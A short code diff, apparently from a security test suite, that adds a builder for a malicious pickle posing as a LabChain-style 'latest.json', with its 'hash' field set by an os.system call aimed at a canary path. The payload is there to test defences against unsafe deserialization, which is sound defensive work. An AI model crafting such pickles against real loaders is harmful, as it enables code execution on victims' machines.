@@ -131,6 +131,12 @@ def cloudpickle_class_with_hook(c: Path) -> bytes:
     return cloudpickle.dumps(cls, protocol=5)
 
 
+def evil_pointer(c: Path, class_name: str = "Lab") -> bytes:
+    """A LabChain-style pickled ``latest.json`` whose 'hash' is the result of os.system."""
+    call = os_system(c / "evil_pointer")[len(PROTO2) : -len(STOP)]
+    return PROTO2 + EMPTY_DICT + MARK + _str("hash") + call + _str("class_name") + _str(class_name) + SETITEMS + STOP
+
+
 #: name -> builder(canary_path) -> pickle bytes
 PAYLOADS: dict[str, Callable[[Path], bytes]] = {
     f.__name__: f
